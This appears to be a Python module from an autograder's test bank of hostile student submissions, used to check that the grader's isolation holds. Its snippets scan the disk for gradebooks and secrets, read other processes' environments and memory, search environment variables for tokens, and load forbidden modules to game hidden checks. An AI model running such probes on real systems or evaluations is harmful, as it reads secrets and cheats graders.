"""Hostile submissions that look for what they must not see; the attacked task is answered rightly only where they found it.

So points in that task say that something was there, and what it was is printed by the cell.
"""

from typing import Any

from autograder.bank.submission import Entry, attack

FOUND = "BANK-FOUND"
"""Printed before whatever a search turned up."""

CALL = """
        if not found:
            raise RuntimeError("nothing was found")
        return _right(*args, **kwargs)
        """

_TELL = """
        for one in found:
            print("BANK-FOUND", str(one)[:300])
        """

SIGNS = (
    "mask_oracle",
    "prune_oracle",
    "keeps_the_largest",
    "trained_network",
    "carries_the_shape",
    "fewest_words",
    "keep_alive_oracle",
)
"""Names that stand in hidden checks alone."""

HIDDEN = ("Sort the absolute values of the hidden", *SIGNS)


def _search(name: str, words: str, setup: str, call: str = CALL, **settings: Any) -> Entry:
    return attack(name, words, setup=setup + _TELL, call=call, **settings)


DISK: tuple[Entry, ...] = (
    _search("searches-disk", "every folder is searched for solutions, checks, gradebook and secret", """
        import os
        found = []
        names = {"gradebook.db", "nbgrader_config.py", "secret", "roster.csv", "submitted", "autograded", "solutions", "mutants", "checks"}
        inner = {"rebuild", "gradebook", "collecting"}
        for root, folders, files in os.walk("/"):
            if root.startswith(("/proc", "/sys")):
                folders[:] = []
                continue
            here = names.intersection(folders + files)
            if "autograder" in root or "efflab" in root or root.count("/") < 4:
                found += [os.path.join(root, name) for name in here]
            if os.path.basename(root) == "autograder":
                found += [os.path.join(root, name) for name in inner.intersection(folders)]
        """),
    _search("searches-texts", "readable files outside the system are searched for the text of hidden checks", f"""
        import os
        found = []
        signs = [sign.encode() for sign in {SIGNS!r}]
        for root, folders, files in os.walk("/"):
            folders[:] = [one for one in folders if os.path.join(root, one) not in ("/proc", "/sys", "/usr", "/lib", "/bin")
                and one not in ("torch", "numpy", "site-packages", "numba", "matplotlib", "nvidia")]
            for name in files:
                path = os.path.join(root, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 10**6:
                        content = open(path, "rb").read()
                        found += [path for sign in signs if sign in content]
                except OSError:
                    pass
        """),
    _search("searches-processes", "environment, arguments, open files and memory of every process are read", f"""
        import glob, os
        found = []
        signs = [sign.encode() for sign in {SIGNS!r}] + [b"gradebook.db", b"EFFLAB_SECRET"]
        mine = str(os.getpid())
        for folder in glob.glob("/proc/[0-9]*"):
            for name in ("environ", "cmdline"):
                try:
                    content = open(f"{{folder}}/{{name}}", "rb").read()
                except OSError:
                    continue
                found += [(folder, name, sign) for sign in signs if sign in content]
            for link in glob.glob(f"{{folder}}/fd/*") + [f"{{folder}}/cwd", f"{{folder}}/root", f"{{folder}}/exe"]:
                try:
                    place = os.readlink(link)
                except OSError:
                    continue
                if any(word in place for word in ("gradebook", "/course", "solutions", "submitted", "secret")):
                    found.append((link, place))
            if os.path.basename(folder) == mine:
                continue
            try:
                maps = open(f"{{folder}}/maps").read().splitlines()
                memory = open(f"{{folder}}/mem", "rb", 0)
            except OSError:
                continue
            for line in maps:
                span, rights, *rest = line.split()
                low, high = (int(end, 16) for end in span.split("-"))
                if "w" not in rights or high - low > 2**26:
                    continue
                try:
                    memory.seek(low)
                    content = memory.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
                # The signs stand in this cell's text too, and a parent that was handed the cell knows them by it.
                found += [(folder, sign) for sign in signs if sign in content and b"BANK-FOUND" not in content]
        """),
)  # fmt: skip

MEMORY: tuple[Entry, ...] = (
    _search("searches-memory", "objects, modules and frames of the process are searched for oracles and checks", f"""
        import gc, sys
        found = []
        signs = {SIGNS!r}
        frame = sys._getframe()
        while frame:
            for name, value in [*frame.f_globals.items(), *frame.f_locals.items()]:
                if name in signs:
                    found.append(name)
            frame = frame.f_back
        forbidden = ("autograder.checks", "autograder.tasks", "autograder.expect", "autograder.mutants", "autograder.gradebook",
            "autograder.engine", "autograder.build", "autograder.notebook", "sqlalchemy", "nbgrader", "distributed")
        found += [name for name in sys.modules if name.startswith(forbidden)]
        for value in gc.get_objects():
            try:
                name = type.__getattribute__(type(value), "__name__")
                if name in ("Check", "TaskScore", "Job", "CheckResult"):
                    found.append(name)
                if name == "function" and value.__name__ in signs:
                    found.append(value.__qualname__)
            except Exception:
                pass
        """),
    _search("reads-in-and-out", "the history of the notebook and the source of its cells are searched", """
        import linecache
        found = []
        history = [*globals().get("In", []), *map(str, globals().get("Out", {}).values())]
        history += ["".join(lines[2]) for lines in linecache.cache.values() if len(lines) > 2 and "<" in str(lines[3])]
        for sign in ("keeps_the_largest(", "HIDDEN TESTS", "oracle("):
            found += [text for text in history if sign in text and "BANK-FOUND" not in text]
        """),
    _search("walks-frames-in-a-call", "frames above the call are searched for the check that is asking", "found = []", call="""
        import inspect, gc
        for info in inspect.stack()[1:]:
            for name, value in [*info.frame.f_locals.items(), *info.frame.f_globals.items()]:
                if name in ("oracle", "expected", "right", "rng", "check", "checks", "seed", "secret") and not name.startswith("_"):
                    found.append((info.function, name, repr(value)[:100]))
        if found:
            return _right(*args, **kwargs)
        raise RuntimeError("nothing")
        """),
    _search("reads-environment", "the environment is searched for a seed, a path of the course, a token", """
        import os
        found = [(name, value) for name, value in os.environ.items()
            if any(word in (name + value).lower() for word in ("secret", "seed=", "gradebook", "token", "submitted", "autograder/checks"))
            and name != "PYTHONHASHSEED"]
        """),
)  # fmt: skip

_USE = """
        import sys
        found = []
        def used(module):
            if module is not None and any(hasattr(module, one) for one in {names}):
                found.append(module)
        """
FORBIDDEN = {
    "00-measuring": "efflab.measure",
    "01-pruning": "efflab.pruning",
    "02-quantization": "efflab.quantization",
}
_NAMES = "('magnitude_mask', 'magnitude_threshold', 'prune_', 'profile', 'count', 'energy', 'linear_centroids', 'lloyd')"


def _forbidden(name: str, words: str, code: str) -> Entry:
    """An entry that gets at the module which its lab forbids, one way or another."""
    tries = f"""
        try:
            get({FORBIDDEN}[lab.name])
        except BaseException as problem:
            print(type(problem).__name__, str(problem)[:200])
        """
    return _search(name, words, _USE.replace("{names}", _NAMES) + code + tries, labs=tuple(FORBIDDEN))


MODULES: tuple[Entry, ...] = (
    _forbidden("forbidden-import", "the forbidden module is imported plainly, by importlib and out of sys.modules", """
        import importlib
        def get(name):
            used(sys.modules.get(name))
            try:
                exec(f"import {name} as module", globals())
                used(module)
            except ImportError as problem:
                print(problem)
            sys.meta_path[:] = [one for one in sys.meta_path if "importlib" in type(one).__module__ or isinstance(one, type)]
            importlib.invalidate_caches()
            used(importlib.import_module(name))
        """),
    _forbidden("forbidden-file", "the forbidden module's file or byte code is looked for and loaded", """
        import glob, importlib.util, importlib.machinery, os
        def get(name):
            part = name.split(".")[1]
            import efflab
            places = {os.path.dirname(efflab.__file__), *(os.path.join(one, "efflab") for one in sys.path)}
            for place in places:
                for path in glob.glob(f"{place}/**/*{part}*", recursive=True):
                    file = os.path.join(path, "__init__.py") if os.path.isdir(path) else path
                    if "lab" + os.sep in file or "paper" in file or not os.path.isfile(file) or "/tests" in file:
                        continue
                    loader = importlib.machinery.SourcelessFileLoader if file.endswith(".pyc") else importlib.machinery.SourceFileLoader
                    spec = importlib.util.spec_from_file_location("stolen", file, loader=loader("stolen", file))
                    module = importlib.util.module_from_spec(spec)
                    try:
                        spec.loader.exec_module(module)
                    except BaseException as problem:
                        print(file, problem)
                    used(module)
        """),
    _forbidden("forbidden-subprocess", "another Python is started to import the forbidden module, in isolated mode too", """
        import subprocess
        def get(name):
            for flags in ([], ["-I"], ["-S"], ["-E", "-s"]):
                code = f"import {name}, inspect; print('SOURCE', inspect.getsource({name}))"
                answer = subprocess.run([sys.executable, *flags, "-c", code], capture_output=True, text=True, timeout=20, cwd="/")
                if "SOURCE" in answer.stdout:
                    found.append(answer.stdout[:80])
        """),
    _forbidden("forbidden-zip", "archives and wheels are looked for and put on the path", """
        import glob, zipimport
        def get(name):
            for pattern in ("/**/efflab*.whl", "/**/efflab*.zip", "/**/efflab*.egg", "/**/efflab*.tar.gz"):
                for path in glob.glob("/root" + pattern, recursive=True) + glob.glob("/tmp" + pattern, recursive=True) + glob.glob("/opt" + pattern, recursive=True):
                    used(zipimport.zipimporter(path).load_module(name))
        """),
    _forbidden("forbidden-remains", "traces of the forbidden module are looked for among objects that other modules keep", """
        import gc
        def get(name):
            for value in gc.get_objects():
                try:
                    if str(getattr(value, "__module__", "")).startswith(name) or str(getattr(value, "__name__", "")).startswith(name + "."):
                        if type(value).__name__ in ("function", "type", "module") and getattr(value, "__file__", "x"):
                            found.append(value)
                except Exception:
                    pass
        """),
)  # fmt: skip

ENTRIES = (*DISK, *MEMORY, *MODULES)
